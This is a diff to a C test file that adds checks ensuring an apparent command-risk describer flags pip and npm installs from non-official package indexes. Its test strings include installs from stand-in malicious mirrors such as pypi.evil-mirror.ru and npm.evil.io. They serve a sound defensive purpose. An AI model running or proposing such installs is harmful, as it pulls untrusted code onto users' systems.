@@ -187,6 +187,21 @@ static void true_for_the_line(void)
 	NEVER_SAYS("systemctl unmask nginx", "unknown-program");
 }
 
+/* Where software comes from is named when it is not the official index. */
+static void names_the_source(void)
+{
+	SAYS("pip install --index-url http://pypi.evil-mirror.ru/simple requests",
+	     "another source than the official package index: http://pypi.evil-mirror.ru/simple");
+	NEVER_SAYS("pip install --index-url http://pypi.evil-mirror.ru/simple requests",
+		   "software: http://pypi.evil-mirror.ru/simple and requests");
+	SAYS("pip install --extra-index-url=https://pkgs.example.com/simple foo",
+	     "system.packages-other-index");
+	SAYS("npm install --registry http://npm.evil.io lodash", "http://npm.evil.io");
+	NEVER_SAYS("pip install -i https://pypi.org/simple x", "system.packages-other-index");
+	NEVER_SAYS("pip install -r requirements.txt", "Removes");
+	SAYS("pip install -r requirements.txt", "listed in the file requirements.txt");
+}
+
 int main(int argc, char **argv)
 {
 	struct error err;
@@ -204,6 +219,7 @@ int main(int argc, char **argv)
 	no_contradiction();
 	plain_words();
 	true_for_the_line();
+	names_the_source();
 	risk_engine_free(engine);
 	CHECK_DONE();
 }
